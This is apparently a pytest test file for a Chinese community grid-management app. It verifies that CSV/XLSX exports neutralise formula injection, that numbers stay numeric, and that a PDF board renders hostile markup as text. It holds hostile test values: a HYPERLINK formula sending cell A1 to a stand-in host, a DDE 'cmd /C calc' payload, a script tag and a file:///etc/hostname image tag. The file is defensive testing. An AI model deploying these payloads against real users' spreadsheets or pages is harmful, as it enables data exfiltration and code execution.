"""Formula injection in every CSV/XLSX export, numbers kept as numbers, our own exports read back intact.

Values that Excel or WPS would run (``=``, ``+``, ``-``, ``@``, tab, CR first) arrive in
resident names, 12345 work-order numbers and descriptions, and category tables; each export
must show them as text, and importing the export must give back the very same values
(:mod:`geo.spreadsheet`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from api.cli import main
from api.db import session_scope
from api.incidents.models import IncidentCase
from geo.spreadsheet import FORMULA_PREFIXES
from tests.api.attack_helpers import World, attack_world, grid_point, ids_with_check

#: Values a spreadsheet would run as formulas, and one with a control character XML cannot hold.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with attack_world(tmp_path_factory.mktemp("attack_exports")) as w:
        _formula_residents(w)
        yield w


def _formula_residents(world: World) -> None:
    from api.grids.service import buildings_of_grid
    from api.register.crypto import cipher_for
    from api.register.importer import import_sheet

    app = world.app
    with app.app_context(), session_scope() as s:
        building = buildings_of_grid(s, world.A)[1]
        frame = pd.DataFrame({"姓名": FORMULAS, "身份证号": ids_with_check([f"3201022000010130{i}" for i in range(6)]),
                              "楼栋编号": building, "单元": "2", "门牌": [f"20{i}" for i in range(6)],
                              "与户主关系": [f[:32] for f in FORMULAS[::-1]]})
        import_sheet(s, "residents", frame, cipher=cipher_for(app.instance_path, app.config["WANGGE"]),
                     settings=app.config["WANGGE"], user="test")


def _unsafe(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb for row in ws.iter_rows() for c in row]


def _assert_csv_safe(data: bytes) -> list[list[str]]:
    rows = _csv_cells(data)
    assert not [v for row in rows for v in row if _unsafe(v)]
    return rows


def _assert_xlsx_safe(data: bytes) -> list:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell anywhere
    assert not [c.value for c in cells if isinstance(c.value, str) and _unsafe(c.value)]
    return cells


def test_register_export_neutralises_formulas_keeps_numbers_and_reads_back(world: World) -> None:
    from geo.register.sheets import read_sheet

    worker = world.clients["worker"]
    url = f"/api/register/grids/{world.A}/export"
    data = worker.get(f"{url}?format=csv").get_data()
    rows = _assert_csv_safe(data)
    assert {"'" + v.strip() if not v.startswith("\t") else "'" + v for v in FORMULAS} & {r[1] for r in rows}
    back = read_sheet(data, name="r.csv")
    assert set(FORMULAS) - {"\t=1+1"} <= set(back["姓名"])  # the values themselves come back
    xlsx = worker.get(f"{url}?format=xlsx").get_data()
    cells = _assert_xlsx_safe(xlsx)
    ids = [c.value for c in cells if c.column == 1 and c.row > 1]
    assert ids and all(isinstance(v, int) for v in ids)  # 编号 stays a number
    assert set(FORMULAS) - {"\t=1+1"} <= set(read_sheet(xlsx, name="r.xlsx")["姓名"])


def _workorders(world: World, tmp: Path) -> Path:
    lon, lat = grid_point(world)
    rows = [{"工单编号": f"{p}{i}", "诉求内容": p + " 楼道堆物", "类别": "SJ-0201", "地址": "-1号楼",
             "坐标": f"{lon},{lat}", "受理时间": "2026-11-03 10:00", "时限": "24小时", "状态": ""}
            for i, p in enumerate(["=1+2", "-20261103", "+86", "@x", FORMULAS[0]])]
    path = tmp / "hostile-12345.csv"
    path.write_bytes(pd.DataFrame(rows).to_csv(index=False).encode("utf-8-sig"))
    return path


def _cases(world: World) -> int:
    with world.app.app_context(), session_scope() as s:
        return int(s.scalar(select(func.count()).select_from(IncidentCase)))


def test_12345_export_is_safe_and_imports_back_as_the_same_work_orders(world: World, tmp_path: Path) -> None:
    runner = world.app.test_cli_runner()
    r = runner.invoke(main, ["incidents", "import", "--format", "12345", str(_workorders(world, tmp_path))])
    assert r.exit_code == 0 and "新增 inserted 5" in r.output, r.output
    before = _cases(world)
    admin = world.clients["admin"]
    csv_data, xlsx_data = admin.get("/incidents/export.csv").get_data(), admin.get("/incidents/export.xlsx").get_data()
    rows = _assert_csv_safe(csv_data)
    assert ["'=1+20", "'-202611031"] == [r[0] for r in rows if r[0][1:3] in ("=1", "-2")]
    _assert_xlsx_safe(xlsx_data)
    for name, data in (("back.csv", csv_data), ("back.xlsx", xlsx_data)):
        (tmp_path / name).write_bytes(data)
        again = runner.invoke(main, ["incidents", "import", "--format", "12345", str(tmp_path / name)])
        assert again.exit_code == 0 and "新增 inserted 0" in again.output, (name, again.output)
    assert _cases(world) == before  # every work order recognised: none doubled
    out = tmp_path / "cli.xlsx"
    assert runner.invoke(main, ["incidents", "export", "-o", str(out)]).exit_code == 0
    _assert_xlsx_safe(out.read_bytes())


def test_category_table_export_is_safe_and_loads_back_unchanged(world: World, tmp_path: Path) -> None:
    from api.incidents.tables import load_categories

    runner = world.app.test_cli_runner()
    table = tmp_path / "cats.csv"
    assert runner.invoke(main, ["incidents", "categories", "--export", str(table)]).exit_code == 0
    frame = pd.read_csv(table, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    frame.loc[0, "小类名称"], frame.loc[1, "责任部门"] = "=HYPERLINK(\"http://x\")", "@SUM(A1)"
    frame.to_csv(table, index=False, encoding="utf-8-sig")
    assert runner.invoke(main, ["incidents", "categories", str(table)]).exit_code == 0
    with world.app.app_context(), session_scope() as s:
        loaded = load_categories(s)
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"again.{suffix}"
        assert runner.invoke(main, ["incidents", "categories", "--export", str(out)]).exit_code == 0
        (_assert_csv_safe if suffix == "csv" else _assert_xlsx_safe)(out.read_bytes())
        assert runner.invoke(main, ["incidents", "categories", str(out)]).exit_code == 0
        with world.app.app_context(), session_scope() as s:
            assert load_categories(s) == loaded, suffix


def test_metrics_export_keeps_numbers_numeric(world: World, tmp_path: Path) -> None:
    from api.incidents.demo import demo_cases

    with world.app.app_context(), session_scope() as s:
        assert demo_cases(s, settings=world.app.config["WANGGE"], per_grid_week=0.2)
    runner = world.app.test_cli_runner()
    out = tmp_path / "m.xlsx"
    r = runner.invoke(main, ["incidents", "metrics", "--from", "2020-01-01", "--to", "2030-01-01", "--by", "category",
                             "-o", str(out)])
    assert r.exit_code == 0, r.output
    cells = _assert_xlsx_safe(out.read_bytes())
    assert any(isinstance(c.value, int | float) and c.row > 1 for c in cells)  # rates and counts stay numbers


def test_coverage_with_no_patrol_at_all_is_a_table_of_zeros_not_a_500(world: World, tmp_path: Path) -> None:
    r = world.clients["planner"].get("/api/patrol/coverage", query_string={"from": "2026-01-05", "to": "2026-01-05"})
    assert r.status_code == 200, r.get_data()[:300]
    rows = r.get_json()["rows"]
    assert rows and all(x["buildings_visited"] == 0 and x["first_visit"] is None for x in rows)
    out = tmp_path / "cov.csv"
    res = world.app.test_cli_runner().invoke(main, ["patrol", "coverage", "--from", "2026-01-05", "--to", "2026-01-05",
                                                    "-o", str(out)])
    assert res.exit_code == 0, res.output
    _assert_csv_safe(out.read_bytes())


def test_a_board_prints_hostile_header_and_names_as_text_and_fetches_nothing(world: World, tmp_path: Path) -> None:
    import re
    import subprocess

    header = '<img src="file:///etc/hostname"><script>alert(1)</script>=HYPERLINK("x")'
    world.app.config["WANGGE"]["board_header_text"] = header
    try:
        r = world.clients["admin"].get(f"/boards/{world.A}.pdf?drafts=1")
    finally:
        world.app.config["WANGGE"]["board_header_text"] = "网格化服务管理公示牌"
    assert r.status_code == 200, r.get_data()[:300]
    pdf = tmp_path / "board.pdf"
    pdf.write_bytes(r.get_data())
    text = re.sub(r"\s+", "", subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
                                             check=True, timeout=60).stdout)
    assert re.sub(r"\s+", "", header) in text  # the markup printed as text
    assert "alert(2)" in text  # the grid's hostile party branch name (支部1"><script>alert(2)…) too
    images = subprocess.run(["pdfimages", "-list", str(pdf)], capture_output=True, text=True, check=True,
                            timeout=60).stdout.splitlines()[2:]
    assert len(images) <= 3  # map, QR code, maybe a photo: nothing fetched from the header's <img>
